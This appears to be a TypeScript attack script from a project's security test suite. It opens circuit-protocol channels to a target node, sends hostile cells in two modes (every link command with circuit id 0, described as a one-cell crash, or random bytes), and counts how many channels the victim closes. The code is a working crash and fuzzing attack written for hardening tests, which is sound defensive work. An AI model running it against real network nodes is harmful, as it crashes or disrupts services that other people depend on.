// Attack script: opens circuit channels to a victim and writes hostile cells. Modes:
//   zero-id  every link command with circuit id 0 (the one-cell crash of the hardening issue)
//   random   cells of random bytes with random commands and ids
// Reports {channels, cells, closedByVictim} when done.
import { randomBytes } from 'node:crypto';
import { CIRCUIT_PROTOCOL } from '../../../src/circuit/protocol.ts';
import { attackArgs, createAttackerHost, openProtocol, report } from './attacker-host.ts';

interface Args {
  readonly address: string;
  readonly mode: 'zero-id' | 'random';
  readonly channels: number;
}

const CELL_BYTES = 2048;

const args = attackArgs<Args>();
const host = await createAttackerHost();
let cells = 0;
let closedByVictim = 0;
for (let i = 0; i < args.channels; i++) {
  const stream = await openProtocol(host, args.address, CIRCUIT_PROTOCOL);
  const closed = new Promise<boolean>((resolve) => {
    stream.addEventListener('close', () => resolve(true), { once: true });
    setTimeout(() => resolve(false), 2_000).unref();
  });
  const batch: Uint8Array[] = [];
  if (args.mode === 'zero-id') {
    for (const command of [0, 1, 2, 3, 4, 5, 0x80, 0xff]) {
      const c = randomBytes(CELL_BYTES);
      c.writeUInt32BE(0, 0);
      c[4] = command;
      batch.push(c);
    }
  } else {
    for (let k = 0; k < 32; k++) {
      const c = randomBytes(CELL_BYTES);
      c[4] = c[4]! % 8;
      batch.push(c);
    }
  }
  for (const c of batch) {
    stream.send(c);
    cells++;
  }
  if (await closed) closedByVictim++;
  else stream.abort(new Error('done'));
}
report({ channels: args.channels, cells, closedByVictim });
await host.stop();
